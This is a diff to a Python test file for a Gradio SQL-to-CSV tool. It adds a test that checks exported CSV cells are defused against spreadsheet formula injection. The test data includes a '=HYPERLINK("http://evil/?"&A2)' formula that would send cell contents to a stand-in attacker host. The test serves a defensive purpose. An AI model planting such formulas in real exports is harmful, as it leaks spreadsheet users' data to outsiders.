@@ -4,6 +4,7 @@
 """
 
 import json
+from pathlib import Path
 import threading
 
 import gradio as gr
@@ -119,6 +120,21 @@ def test_generate_then_run_gives_the_table_and_a_csv(handlers, fake_models):
     assert status.startswith("✅ 3 rows in")
     assert csv["visible"] is True
     assert pd.read_csv(csv["value"]).equals(frame)
+
+
+def test_the_csv_keeps_formulas_from_running_in_a_spreadsheet(handlers, tmp_path):
+    """Cells from an uploaded file are untrusted: a spreadsheet would run "=HYPERLINK(...)"."""
+    hostile = build_db(tmp_path / "hostile.db", """
+        CREATE TABLE t ("=cmd" TEXT, amount REAL, note TEXT);
+        INSERT INTO t VALUES ('=HYPERLINK("http://evil/?"&A2)', -5, '-not a number');
+        INSERT INTO t VALUES ('@SUM(1)', 2, 'plain text');
+    """)
+    _, table, _, csv = handlers.run(UPLOAD, None, str(hostile), "", "SELECT * FROM t", None)
+    assert table["value"].values.tolist()[0][0] == '=HYPERLINK("http://evil/?"&A2)'  # the table shows the data as is
+    lines = Path(csv["value"]).read_text().splitlines()
+    assert lines[0] == "'=cmd,amount,note"
+    assert lines[1] == """"'=HYPERLINK(""http://evil/?""&A2)",-5.0,'-not a number"""  # numbers stay numbers
+    assert lines[2] == "'@SUM(1),2.0,plain text"
 
 
 def test_the_user_can_edit_the_sql_and_run_again(handlers):
